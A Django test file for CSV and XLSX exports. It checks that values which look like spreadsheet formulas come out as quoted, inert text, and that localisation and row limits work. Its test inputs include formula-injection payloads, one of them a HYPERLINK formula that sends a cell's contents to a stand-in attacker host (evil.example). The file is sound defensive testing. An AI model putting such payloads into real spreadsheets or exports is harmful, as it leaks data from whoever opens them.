"""Exports: CSV and spreadsheet cells can never run as formulas, whatever a record holds."""

import csv
import io

import openpyxl
import pytest
from django.utils import translation

from partnerships.api import copy_export, exports, renderers
from partnerships.api.lean import ShapeRows
from partnerships.api.plan import shape_of
from partnerships.api.renderers import cell, neutralise
from partnerships.api.urls import router
from partnerships.api.views import RecordViewSet
from tests import factories
from tests.api.base import client_for, csv_rows, detail_url, list_url
from tests.factories import agreement_with_everything

# The records' resources; saved views are a user's settings, not records: they have no export.
RECORD_RESOURCES = [(prefix, viewset) for prefix, viewset, _ in router.registry if issubclass(viewset, RecordViewSet)]

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', "@SUM(1)", "+1+1", "-1+1", "\tx", "\rx"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_starts_a_formula_gets_a_quote_before_it(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["学大教育集团", "2023-11-28", "a=b", "", "'=already quoted"])
def test_other_text_is_left_as_it_is(text):
    assert neutralise(text) == text


@pytest.mark.parametrize(("value", "text"), [(-3, "-3"), (2.5, "2.5"), ("-3", "-3"), ("+86", "+86"), ("-0.5", "-0.5")])
def test_a_plain_number_stays_a_number(value, text):
    assert cell(value) == text


@pytest.mark.django_db
def test_institution_names_that_look_like_formulas_come_out_inert():
    for name in FORMULAS[:3]:
        factories.InstitutionFactory(name=name)
    rows = csv_rows(client_for(factories.analyst()).get(list_url("institution"), {"format": "csv"}))
    names = {row[rows[0].index("Name")] for row in rows[1:]}
    assert names == {"'" + name for name in FORMULAS[:3]}


@pytest.mark.django_db
def test_a_party_named_like_a_formula_is_inert_in_the_agreements_export():
    agreement = factories.AgreementFactory()
    factories.AgreementPartyFactory(agreement=agreement, institution=factories.InstitutionFactory(name="@SUM(1)"))
    rows = csv_rows(client_for(factories.analyst()).get(list_url("agreement"), {"format": "csv"}))
    assert rows[1][rows[0].index("Parties")].startswith("'@SUM(1)")
    assert rows[1][rows[0].index("ID")] == str(agreement.pk)


@pytest.mark.parametrize("language", ["en", "zh-hans"])
@pytest.mark.parametrize(("prefix", "viewset"), RECORD_RESOURCES)
def test_the_plans_python_rows_give_the_serializers_cells_for_every_resource(every_kind_of_record, prefix, viewset, language):
    assert_python_cells_are_the_serializers(viewset, language)


@pytest.mark.parametrize("language", ["en", "zh-hans"])
def test_the_plans_python_rows_give_the_serializers_cells_on_generated_records(generated_records, language):
    for _, viewset in RECORD_RESOURCES:
        assert_python_cells_are_the_serializers(viewset, language)


def assert_python_cells_are_the_serializers(viewset, language: str) -> None:
    serializer = viewset.serializer_class(context={})
    queryset = viewset.queryset.all()
    with translation.override(language):
        rows = ShapeRows(shape_of(viewset.serializer_class, queryset.model))
        flat = list(exports.plan_rows(queryset, serializer, rows))
        assert flat == list(exports.serialized_rows(queryset, serializer))
    assert len(flat) == queryset.count() > 0


@pytest.mark.django_db
def test_the_agreements_export_reads_no_model_instances(monkeypatch):
    agreement_with_everything()
    monkeypatch.setattr(exports, "serialized_rows", None)  # the fallback would fail
    rows = csv_rows(client_for(factories.analyst()).get(list_url("agreement"), {"format": "csv"}))
    assert len(rows) == 2


@pytest.mark.django_db
def test_the_agreements_csv_names_parties_with_their_roles_in_the_users_language():
    agreement_with_everything()
    client = client_for(factories.analyst())
    rows = csv_rows(client.get(list_url("agreement"), {"format": "csv"}, HTTP_ACCEPT_LANGUAGE="zh-hans"))
    assert rows[0][:3] == ["ID", "编号", "标题"]
    parties = rows[1][rows[0].index("签约方")]
    assert "主导方" in parties and "lead" not in parties


def xlsx_rows(response) -> list[tuple]:
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True)
    return list(workbook.active.iter_rows(values_only=True))


@pytest.mark.django_db
def test_an_xlsx_export_has_the_csv_columns_numbers_as_numbers_and_no_formula():
    agreement = agreement_with_everything(title='=HYPERLINK("http://evil.example","点此")')
    client = client_for(factories.analyst())
    response = client.get(list_url("agreement"), {"format": "xlsx"})
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="agreements.xlsx"'
    rows = xlsx_rows(response)
    assert list(rows[0]) == csv_rows(client.get(list_url("agreement"), {"format": "csv"}))[0]
    item = dict(zip(rows[0], rows[1], strict=True))
    assert item["ID"] == agreement.pk
    assert item["Title"] == '\'=HYPERLINK("http://evil.example","点此")'
    assert "江西省 / 赣州市 / 龙南市" == item["Region"]


@pytest.mark.django_db
def test_an_xlsx_export_speaks_the_users_language_and_drops_control_characters():
    factories.InstitutionFactory(name="\x07@SUM(1)")
    response = client_for(factories.analyst()).get(list_url("institution"), {"format": "xlsx"}, HTTP_ACCEPT_LANGUAGE="zh-hans")
    rows = xlsx_rows(response)
    assert "名称" in rows[0]
    assert rows[1][rows[0].index("名称")] == "'@SUM(1)"


@pytest.mark.django_db
def test_a_list_longer_than_a_worksheet_is_a_400_naming_the_format(monkeypatch):
    monkeypatch.setattr(renderers, "XLSX_MAX_ROWS", 3)
    factories.AgreementFactory.create_batch(3)
    response = client_for(factories.analyst()).get(list_url("agreement"), {"format": "xlsx"})
    assert response.status_code == 400
    assert response["Content-Type"].startswith("application/json")
    assert "format" in response.data
    assert client_for(factories.analyst()).get(list_url("agreement"), {"format": "xlsx", "limit": 2}).status_code == 400


@pytest.mark.django_db
def test_stats_and_single_records_export_as_xlsx_too():
    agreement = factories.AgreementFactory()
    client = client_for(factories.analyst())
    stats = client.get(list_url("agreement") + "stats/", {"group_by": "status", "format": "xlsx"})
    assert stats.status_code == 200
    rows = list(openpyxl.load_workbook(io.BytesIO(stats.content), read_only=True).active.iter_rows(values_only=True))
    assert rows == [("Key", "Label", "Count"), ("signed", "signed", 1)]
    one = client.get(detail_url("agreement", agreement.pk), {"format": "xlsx"})
    assert one.status_code == 200


@pytest.mark.postgresql
@pytest.mark.parametrize("language", ["en", "zh-hans"])
@pytest.mark.parametrize(("prefix", "viewset"), RECORD_RESOURCES)
def test_copy_gives_the_serializers_cells_for_every_resource(every_kind_of_record, prefix, viewset, language):
    assert_copied_cells_are_the_serializers(viewset, language)


@pytest.mark.postgresql
@pytest.mark.parametrize("language", ["en", "zh-hans"])
def test_copy_gives_the_serializers_cells_on_generated_records(generated_records, language):
    for _, viewset in RECORD_RESOURCES:
        assert_copied_cells_are_the_serializers(viewset, language)


def assert_copied_cells_are_the_serializers(viewset, language: str) -> None:
    serializer = viewset.serializer_class(context={})
    queryset = viewset.queryset.all()
    with translation.override(language):
        chunks = copy_export.copy_chunks(queryset, serializer)
        assert chunks is not None, "COPY cannot write every field"
        copied = list(csv.reader(io.StringIO(b"".join(chunks).decode("utf-8"))))
        expected = [[cell(value) for value in row] for row in exports.serialized_rows(queryset, serializer)]
    # Lists in order: the plan orders a list's items by their model's ordering (then id, if it can tie) on every path.
    assert copied == expected
    assert len(copied) == queryset.count() > 0


@pytest.mark.postgresql
@pytest.mark.django_db
def test_the_csv_export_on_postgresql_is_written_by_copy(monkeypatch):
    agreement_with_everything()
    monkeypatch.setattr(exports, "table_rows", None)  # the Python paths would fail
    rows = csv_rows(client_for(factories.analyst()).get(list_url("agreement"), {"format": "csv"}))
    assert len(rows) == 2
